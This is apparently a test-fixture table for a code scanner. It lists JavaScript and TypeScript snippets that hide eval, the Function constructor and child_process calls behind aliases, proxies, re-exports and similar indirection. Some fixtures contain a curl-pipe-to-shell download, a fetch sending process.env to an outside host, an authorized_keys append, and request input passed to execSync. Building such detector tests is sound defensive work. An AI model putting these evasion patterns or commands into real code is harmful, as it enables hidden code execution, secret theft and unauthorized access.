import type { EvasionCase } from '../table';

/** A file's text from its lines: the line numbers in `expect` are the argument positions. */
const lines = (...rows: string[]): string => `${rows.join('\n')}\n`;

const js = (name: string, files: Record<string, string>, expect: EvasionCase['expect'], base?: Record<string, string>): EvasionCase => ({
  name,
  technique: 'indirection',
  language: 'js',
  files,
  expect,
  ...(base ? { base } : {}),
});

export const CASES: EvasionCase[] = [
  // --- objects, arrays, spread, assign, maps ---------------------------------------------------
  js(
    'eval parked two levels deep in a nested helpers object',
    {
      'src/render.js': lines(
        'const helpers = {',
        '  text: { trim: (s) => s.trim() },',
        '  code: { load: eval },',
        '};',
        'export function render(tpl) {',
        '  return helpers.code.load(tpl.source);',
        '}',
      ),
    },
    [{ file: 'src/render.js', line: 6, category: 'dynamic-code' }],
  ),
  js(
    'eval taken out of an array literal by destructuring with a hole',
    {
      'src/plugins.js': lines(
        'const [, compile] = [console.log, eval];',
        'export function loadPlugin(body) {',
        '  return compile(body);',
        '}',
      ),
    },
    [{ file: 'src/plugins.js', line: 3, category: 'dynamic-code' }],
  ),
  js(
    'eval copied into an api object by object spread',
    {
      'src/api.js': lines(
        'const internals = { evaluate: eval, version: 2 };',
        'const api = { ...internals, name: "calc" };',
        'export function calc(expr) {',
        '  return api.evaluate(expr);',
        '}',
      ),
    },
    [{ file: 'src/api.js', line: 4, category: 'dynamic-code' }],
  ),
  js(
    'Function constructor merged into a toolkit with Object.assign',
    {
      'src/toolkit.js': lines(
        'const toolkit = Object.assign({}, { format: String }, { build: Function });',
        'export function makeGetter(field) {',
        '  return new toolkit.build("row", `return row.${field}`);',
        '}',
      ),
    },
    [{ file: 'src/toolkit.js', line: 3, category: 'dynamic-code' }],
  ),
  js(
    'execSync stored in a Map under a constant key and fetched back',
    {
      'src/tasks.js': lines(
        "const cp = require('child_process');",
        'const handlers = new Map();',
        "handlers.set('refresh', cp.execSync);",
        'export function runTask(name, arg) {',
        "  return handlers.get('refresh')(arg);",
        '}',
      ),
    },
    [{ file: 'src/tasks.js', line: 5, category: 'process' }],
  ),
  js(
    'eval stored under a Symbol key and called through it',
    {
      'src/symbols.js': lines(
        "const RUN = Symbol('run');",
        'const engine = { [RUN]: eval };',
        'export const evaluate = (src) => engine[RUN](src);',
      ),
    },
    [{ file: 'src/symbols.js', line: 3, category: 'dynamic-code' }],
  ),
  js(
    'eval defined onto an object with Object.defineProperty',
    {
      'src/define.js': lines(
        'const sandbox = {};',
        "Object.defineProperty(sandbox, 'run', { value: eval, enumerable: false });",
        'export function execute(snippet) {',
        '  return sandbox.run(snippet);',
        '}',
      ),
    },
    [{ file: 'src/define.js', line: 4, category: 'dynamic-code' }],
  ),
  js(
    'spawn built into an object with Object.fromEntries',
    {
      'src/launcher.js': lines(
        "import { spawn } from 'node:child_process';",
        "const ops = Object.fromEntries([['open', spawn], ['log', console.log]]);",
        'export function open(target) {',
        "  return ops.open('sh', ['-c', target]);",
        '}',
      ),
    },
    [{ file: 'src/launcher.js', line: 4, category: 'process' }],
  ),
  // --- classes ------------------------------------------------------------------------------
  js(
    'execSync held in a static class field',
    {
      'src/git.js': lines(
        'export class Git {',
        "  static run = require('child_process').execSync;",
        '  static status(args) {',
        '    return Git.run(`git status ${args}`);',
        '  }',
        '}',
      ),
    },
    [{ file: 'src/git.js', line: 4, category: 'process' }],
  ),
  js(
    'eval held in a private instance field',
    {
      'src/formula.ts': lines(
        'export class Formula {',
        '  #evaluate = eval;',
        '  constructor(private readonly text: string) {}',
        '  value(): unknown {',
        '    return this.#evaluate(this.text);',
        '  }',
        '}',
      ),
    },
    [{ file: 'src/formula.ts', line: 5, category: 'dynamic-code' }],
  ),
  js(
    'exec assigned to this in a constructor and called from a method',
    {
      'src/runner.ts': lines(
        "import * as cp from 'child_process';",
        'export class Runner {',
        '  private launch: typeof cp.exec;',
        '  constructor() {',
        '    this.launch = cp.exec;',
        '  }',
        '  start(cmd: string) {',
        '    return this.launch(cmd);',
        '  }',
        '}',
      ),
    },
    [{ file: 'src/runner.ts', line: 8, category: 'process' }],
  ),
  js(
    'getter on an object literal returning eval',
    {
      'src/lazy.js': lines(
        'const runtime = {',
        '  get interpret() {',
        '    return eval;',
        '  },',
        '};',
        'export const interpret = (src) => runtime.interpret(src);',
      ),
    },
    [{ file: 'src/lazy.js', line: 6, category: 'dynamic-code' }],
  ),
  js(
    'static class getter returning the Function constructor',
    {
      'src/compiler.ts': lines(
        'export class Compiler {',
        '  static get factory(): FunctionConstructor {',
        '    return Function;',
        '  }',
        '  static compile(body: string) {',
        "    return new Compiler.factory('ctx', body);",
        '  }',
        '}',
      ),
    },
    [{ file: 'src/compiler.ts', line: 6, category: 'dynamic-code' }],
  ),
  // --- re-assignment chains and selection ---------------------------------------------------
  js(
    'eval passed down a chain of let re-assignments',
    {
      'src/chain.js': lines(
        'let a = JSON.parse;',
        'let b = a;',
        'a = eval;',
        'b = a;',
        'const c = b;',
        'export const parse = (text) => c(text);',
      ),
    },
    [{ file: 'src/chain.js', line: 6, category: 'dynamic-code' }],
  ),
  js(
    'ternary picks eval outside debug mode',
    {
      'src/exprs.js': lines(
        "const evaluate = process.env.DEBUG ? (s) => console.log('expr', s) : eval;",
        'export function compute(expr) {',
        '  return evaluate(expr);',
        '}',
      ),
    },
    [{ file: 'src/exprs.js', line: 3, category: 'dynamic-code' }],
  ),
  js(
    'logical OR falls back to the Function constructor',
    {
      'src/template.js': lines(
        'const compileTemplate = globalThis.__precompiled || Function;',
        'export function compile(source) {',
        "  return compileTemplate('data', 'return `' + source + '`');",
        '}',
      ),
    },
    [{ file: 'src/template.js', line: 3, category: 'dynamic-code' }],
  ),
  js(
    'nullish coalescing after void selects eval',
    {
      'src/expr.js': lines('const hook = void 0;', 'const evaluate = hook ?? eval;', 'export const run = (src) => evaluate(src);'),
    },
    [{ file: 'src/expr.js', line: 3, category: 'dynamic-code' }],
  ),
  js(
    'comma operator with a side effect hands back the Function constructor',
    {
      'src/boot.js': lines(
        'let booted = false;',
        'const make = (booted = true, Function);',
        'export function boot(body) {',
        '  return make(body)();',
        '}',
      ),
    },
    [{ file: 'src/boot.js', line: 4, category: 'dynamic-code' }],
  ),
  js(
    'switch statement returns exec from a selector function',
    {
      'src/select.js': lines(
        "const cp = require('child_process');",
        'function pick(kind) {',
        '  switch (kind) {',
        "    case 'shell':",
        '      return cp.exec;',
        '    default:',
        '      return console.log;',
        '  }',
        '}',
        "export const run = (cmd) => pick('shell')(cmd);",
      ),
    },
    [{ file: 'src/select.js', line: 10, category: 'process' }],
  ),
  js(
    'optional chaining through globalThis to eval',
    {
      'src/opt.js': lines('export function tryEval(src) {', '  return globalThis?.eval?.(src);', '}'),
    },
    [{ file: 'src/opt.js', line: 2, category: 'dynamic-code' }],
  ),
  // --- wrappers, closures, higher order -----------------------------------------------------
  js(
    'named wrapper function around execSync called with request data',
    {
      'src/server.js': lines(
        "const express = require('express');",
        'function sh(command) {',
        "  return require('child_process').execSync(command).toString();",
        '}',
        'const app = express();',
        "app.get('/diag', (req, res) => {",
        '  res.send(sh(req.query.cmd));',
        '});',
      ),
    },
    [
      { file: 'src/server.js', line: 3, category: 'process' },
      { file: 'src/server.js', line: 7, category: 'process' },
    ],
  ),
  js(
    'arrow wrapper around an aliased eval called with a fetched body',
    {
      'src/remote.js': lines(
        'const ev = globalThis.eval;',
        'const interpret = (code) => ev(code);',
        'export async function loadRemote(url) {',
        '  const res = await fetch(url);',
        '  return interpret(await res.text());',
        '}',
      ),
    },
    [{ file: 'src/remote.js', line: 2, category: 'dynamic-code' }],
  ),
  js(
    'higher-order apply helper receiving eval as its function argument',
    {
      'src/fp.js': lines(
        'const apply = (fn, arg) => fn(arg);',
        'export function evaluateAll(sources) {',
        '  return sources.map((s) => apply(eval, s));',
        '}',
      ),
    },
    [{ file: 'src/fp.js', line: 3, category: 'dynamic-code' }],
  ),
  js(
    'closure factory returns a command runner that is called later',
    {
      'src/factory.js': lines(
        'function makeRunner() {',
        "  const { execSync } = require('child_process');",
        '  return (cmd) => execSync(cmd, { stdio: "inherit" });',
        '}',
        'const run = makeRunner();',
        'export function deploy(target) {',
        '  run(`./deploy.sh ${target}`);',
        '}',
      ),
    },
    [
      { file: 'src/factory.js', line: 3, category: 'process' },
      { file: 'src/factory.js', line: 7, category: 'process' },
    ],
  ),
  js(
    'immediately invoked function returns exec for a later call',
    {
      'src/iife.js': lines(
        "const launch = (() => require('child_process').exec)();",
        'export function openUrl(url) {',
        '  launch(`xdg-open ${url}`);',
        '}',
      ),
    },
    [{ file: 'src/iife.js', line: 3, category: 'process' }],
  ),
  js(
    'bound execSync kept for a later call',
    {
      'src/bound.js': lines(
        "import cp from 'node:child_process';",
        'const runBound = cp.execSync.bind(cp);',
        'export function build(dir) {',
        '  return runBound(`make -C ${dir}`);',
        '}',
      ),
    },
    [{ file: 'src/bound.js', line: 4, category: 'process' }],
  ),
  js(
    'Function.prototype.call.call invokes eval without naming the call',
    {
      'src/callcall.js': lines('export function run(src) {', '  return Function.prototype.call.call(eval, null, src);', '}'),
    },
    [{ file: 'src/callcall.js', line: 2, category: 'dynamic-code' }],
  ),
  js(
    'Function.prototype.bind.call binds eval into a new name',
    {
      'src/bindcall.js': lines('const exec = Function.prototype.bind.call(eval, globalThis);', 'export const run = (src) => exec(src);'),
    },
    [{ file: 'src/bindcall.js', line: 2, category: 'dynamic-code' }],
  ),
  js(
    'TypeScript method decorator receives eval and runs the method result',
    {
      'src/decorators.ts': lines(
        'function through(fn: (s: string) => unknown) {',
        '  return (_t: object, _k: string, d: PropertyDescriptor) => {',
        '    const original = d.value;',
        '    d.value = function (this: unknown, ...a: unknown[]) {',
        '      return fn(original.apply(this, a));',
        '    };',
        '  };',
        '}',
        'export class Report {',
        '  constructor(private readonly expr: string) {}',
        '  @through(eval)',
        '  total() {',
        '    return this.expr;',
        '  }',
        '}',
      ),
    },
    [{ file: 'src/decorators.ts', line: 11, category: 'dynamic-code' }],
  ),
  // --- Reflect and Proxy --------------------------------------------------------------------
  js(
    'Reflect.get fetches eval from globalThis into a harmless name',
    {
      'src/reflect.js': lines(
        "const evaluate = Reflect.get(globalThis, 'eval');",
        'export function calc(expression) {',
        '  return evaluate(expression);',
        '}',
      ),
    },
    [{ file: 'src/reflect.js', line: 3, category: 'dynamic-code' }],
  ),
  js(
    'Reflect.construct builds a function from a string body',
    {
      'src/construct.js': lines('export function compile(body) {', "  return Reflect.construct(Function, ['input', body]);", '}'),
    },
    [{ file: 'src/construct.js', line: 2, category: 'dynamic-code' }],
  ),
  js(
    'Reflect.apply on execSync taken from a required module',
    {
      'src/reflect-apply.js': lines(
        "const cp = require('child_process');",
        'export function run(cmd) {',
        '  return Reflect.apply(cp.execSync, cp, [cmd]);',
        '}',
      ),
    },
    [{ file: 'src/reflect-apply.js', line: 3, category: 'process' }],
  ),
  js(
    'Proxy get trap returns eval for every property',
    {
      'src/proxy.js': lines(
        'const api = new Proxy({}, { get: () => eval });',
        'export function evaluate(expr) {',
        '  return api.evaluate(expr);',
        '}',
      ),
    },
    [{ file: 'src/proxy.js', line: 3, category: 'dynamic-code' }],
  ),
  js(
    'Proxy get trap forwards property reads to child_process',
    {
      'src/shell-proxy.js': lines(
        "const cp = require('child_process');",
        'const shell = new Proxy({}, {',
        '  get(_target, key) {',
        '    return cp[key];',
        '  },',
        '});',
        'export const status = () => shell.execSync("git status --porcelain");',
      ),
    },
    [{ file: 'src/shell-proxy.js', line: 7, category: 'process' }],
  ),
  // --- scope tricks -------------------------------------------------------------------------
  js(
    'with statement puts child_process members in scope as bare names',
    {
      'lib/legacy.js': lines(
        "var cp = require('child_process');",
        'function cleanup(dir) {',
        '  with (cp) {',
        "    execSync('rm -rf ' + dir);",
        '  }',
        '}',
        'module.exports = cleanup;',
      ),
    },
    [{ file: 'lib/legacy.js', line: 4, category: 'process' }],
  ),
  js(
    'eval parked on globalThis in one file and called as a bare global in another',
    {
      'src/setup.js': lines('globalThis.__hydrate = eval;', "export const ready = 'ok';"),
      'src/app.js': lines("import './setup.js';", 'export function hydrate(state) {', '  return __hydrate(state);', '}'),
    },
    [{ file: 'src/app.js', line: 3, category: 'dynamic-code' }],
  ),
  // --- re-exports across files --------------------------------------------------------------
  js(
    'module.exports re-exports child_process and a sibling calls exec',
    {
      'src/util.js': lines("module.exports = require('child_process');"),
      'src/main.js': lines(
        "const util = require('./util');",
        'function refresh(branch) {',
        '  util.exec(`git pull origin ${branch}`);',
        '}',
        'module.exports = { refresh };',
      ),
    },
    [{ file: 'src/main.js', line: 3, category: 'process' }],
  ),
  js(
    'export star from child_process then spawn imported from the helper',
    {
      'src/util.ts': lines("export * from 'child_process';", "export const VERSION = '1.0.0';"),
      'src/cli.ts': lines(
        "import { spawn, VERSION } from './util';",
        'export function start(script: string) {',
        '  console.log(VERSION);',
        "  return spawn('bash', ['-c', script]);",
        '}',
      ),
    },
    [{ file: 'src/cli.ts', line: 4, category: 'process' }],
  ),
  js(
    'export exec as run from node:child_process and call run elsewhere',
    {
      'src/util.ts': lines("export { exec as run } from 'node:child_process';"),
      'src/hooks.ts': lines(
        "import { run } from './util';",
        'export function postBuild(outDir: string) {',
        '  run(`chmod -R 777 ${outDir}`);',
        '}',
      ),
    },
    [{ file: 'src/hooks.ts', line: 3, category: 'process' }],
  ),
  js(
    'default export of globalThis.eval imported under a benign name',
    {
      'lib/compile.js': lines('export default globalThis.eval;'),
      'src/calc.js': lines("import compile from '../lib/compile.js';", 'export function calculate(expr) {', '  return compile(expr);', '}'),
    },
    [{ file: 'src/calc.js', line: 3, category: 'dynamic-code' }],
  ),
  js(
    'helper module exports a shell wrapper and a sibling passes user input',
    {
      'src/exec-helper.js': lines(
        "const { execSync } = require('child_process');",
        'exports.runCommand = (c) => execSync(c, { encoding: "utf8" });',
      ),
      'src/routes.js': lines(
        "const { runCommand } = require('./exec-helper');",
        'module.exports = (req, res) => {',
        '  res.json({ out: runCommand(req.body.command) });',
        '};',
      ),
    },
    [
      { file: 'src/exec-helper.js', line: 2, category: 'process' },
      { file: 'src/routes.js', line: 3, category: 'process' },
    ],
  ),
  js(
    'barrel index re-exports a renamed vm runner used by a sibling',
    {
      'src/sandbox/index.ts': lines("export { runInNewContext as evaluateIsolated } from 'node:vm';"),
      'src/plugins.ts': lines(
        "import { evaluateIsolated } from './sandbox';",
        'export function loadPlugin(source: string) {',
        '  return evaluateIsolated(source, { console });',
        '}',
      ),
    },
    [{ file: 'src/plugins.ts', line: 3, category: 'dynamic-code' }],
  ),
  // --- require and import variants ----------------------------------------------------------
  js(
    'require copied into a variable and called with child_process',
    {
      'src/load.js': lines(
        'const load = require;',
        "const tools = load('child_process');",
        "tools.execSync('curl -s https://get.example.dev | sh');",
      ),
    },
    [{ file: 'src/load.js', line: 3, category: 'process' }],
  ),
  js(
    'module.require loads child_process',
    {
      'src/modreq.js': lines(
        "const proc = module.require('child_process');",
        'exports.clean = () => proc.spawnSync("rm", ["-rf", "/tmp/cache"]);',
      ),
    },
    [{ file: 'src/modreq.js', line: 2, category: 'process' }],
  ),
  js(
    'createRequire from import.meta.url in an ES module loads child_process',
    {
      'scripts/release.mjs': lines(
        "import { createRequire } from 'node:module';",
        'const load = createRequire(import.meta.url);',
        "const { execFileSync } = load('child_process');",
        "execFileSync('npm', ['publish', '--access', 'public']);",
      ),
    },
    [{ file: 'scripts/release.mjs', line: 4, category: 'process' }],
  ),
  js(
    'process.mainModule.require reaches child_process from inside a library',
    {
      'lib/telemetry.js': lines(
        'function send(host) {',
        "  const cp = process.mainModule.require('child_process');",
        '  cp.exec(`ping -c 1 ${host}`);',
        '}',
        'module.exports = send;',
      ),
    },
    [{ file: 'lib/telemetry.js', line: 3, category: 'process' }],
  ),
  js(
    'process.binding spawn_sync called through a renamed handle',
    {
      'src/native.js': lines(
        "const internals = process.binding('spawn_sync');",
        'const sys = { go: internals.spawn };',
        'export function run(cmd) {',
        "  return sys.go({ file: '/bin/sh', args: ['sh', '-c', cmd], envPairs: [], stdio: [] });",
        '}',
      ),
    },
    [
      { file: 'src/native.js', line: 1, category: 'sandbox-escape' },
      { file: 'src/native.js', line: 4, category: 'process' },
    ],
  ),
  js(
    'await import of node: plus vm and runInThisContext on the namespace',
    {
      'src/dyn.mjs': lines(
        "const vmod = await import('node:' + 'vm');",
        'export function run(code) {',
        '  return vmod.runInThisContext(code);',
        '}',
      ),
    },
    [{ file: 'src/dyn.mjs', line: 3, category: 'dynamic-code' }],
  ),
  js(
    'import of a data URL built from a constant prefix',
    {
      'src/inline.mjs': lines(
        "const PREFIX = 'data:text/javascript;base64,';",
        'export async function loadInline(b64) {',
        '  const url = PREFIX + b64;',
        '  return import(url);',
        '}',
      ),
    },
    [{ file: 'src/inline.mjs', line: 4, category: 'dynamic-code' }],
  ),
  js(
    'import of a blob URL made from a string of source',
    {
      'src/blob.js': lines(
        'export async function loadModule(source) {',
        "  const blob = new Blob([source], { type: 'text/javascript' });",
        '  const url = URL.createObjectURL(blob);',
        '  return import(url);',
        '}',
      ),
    },
    [{ file: 'src/blob.js', line: 4, category: 'dynamic-code' }],
  ),
  // --- constructors, timers, callbacks, async ------------------------------------------------
  js(
    'array literal constructor chain compiles and runs a string',
    {
      'src/chain.ts': lines('export function probe(): unknown {', "  return [].constructor.constructor('return process')();", '}'),
    },
    [{ file: 'src/chain.ts', line: 2, category: 'sandbox-escape' }],
  ),
  js(
    'async arrow constructor reached through getPrototypeOf',
    {
      'src/async-fn.js': lines(
        'const AsyncFn = Object.getPrototypeOf(async () => {}).constructor;',
        'export async function runScript(body) {',
        "  return new AsyncFn('require', body)(require);",
        '}',
      ),
    },
    [{ file: 'src/async-fn.js', line: 3, category: 'sandbox-escape' }],
  ),
  js(
    'setTimeout stored in a scheduler object and given a code string',
    {
      'src/schedule.js': lines(
        'const scheduler = { later: setTimeout, now: queueMicrotask };',
        'export function reboot() {',
        "  scheduler.later('process.exit(0)', 5000);",
        '}',
      ),
    },
    [{ file: 'src/schedule.js', line: 3, category: 'dynamic-code' }],
  ),
  js(
    'fetched text handed to eval through promise then',
    {
      'src/update.js': lines(
        'export function applyUpdate(url) {',
        '  return fetch(url)',
        '    .then((r) => r.text())',
        '    .then(eval);',
        '}',
      ),
    },
    [{ file: 'src/update.js', line: 4, category: 'dynamic-code' }],
  ),
  js(
    'array of bodies mapped through the Function constructor',
    {
      'src/rules.js': lines('export function compileRules(bodies) {', '  return bodies.map(Function).map((rule) => rule());', '}'),
    },
    [{ file: 'src/rules.js', line: 2, category: 'dynamic-code' }],
  ),
  js(
    'async generator yields eval and the consumer calls what it gets',
    {
      'src/gen.js': lines(
        'async function* interpreters() {',
        '  yield eval;',
        '}',
        'export async function runAll(src) {',
        '  for await (const interpret of interpreters()) {',
        '    interpret(src);',
        '  }',
        '}',
      ),
    },
    [{ file: 'src/gen.js', line: 6, category: 'dynamic-code' }],
  ),
  js(
    'promise resolves with exec and the then callback calls it',
    {
      'src/deferred.js': lines(
        "const cp = require('child_process');",
        'const ready = Promise.resolve(cp.exec);',
        'export function later(cmd) {',
        '  return ready.then((run) => run(cmd));',
        '}',
      ),
    },
    [{ file: 'src/deferred.js', line: 4, category: 'process' }],
  ),
  // --- other categories through aliases -----------------------------------------------------
  js(
    'fetch kept in a transport object posts environment to a fixed host',
    {
      'src/metrics.js': lines(
        'const transport = { send: fetch };',
        'export function flush() {',
        "  return transport.send('https://metrics.example-cdn.net/v1/ingest', {",
        "    method: 'POST',",
        '    body: JSON.stringify(process.env),',
        '  });',
        '}',
      ),
    },
    [
      { file: 'src/metrics.js', line: 3, category: 'network' },
      { file: 'src/metrics.js', line: 5, category: 'secrets' },
    ],
  ),
  js(
    'writeFileSync renamed through destructuring appends to authorized_keys',
    {
      'src/keys.js': lines(
        "const { appendFileSync: persist } = require('fs');",
        "const { homedir } = require('os');",
        'export function remember(key) {',
        "  persist(`${homedir()}/.ssh/authorized_keys`, key + '\\n');",
        '}',
      ),
    },
    [{ file: 'src/keys.js', line: 4, category: 'filesystem' }],
  ),
];
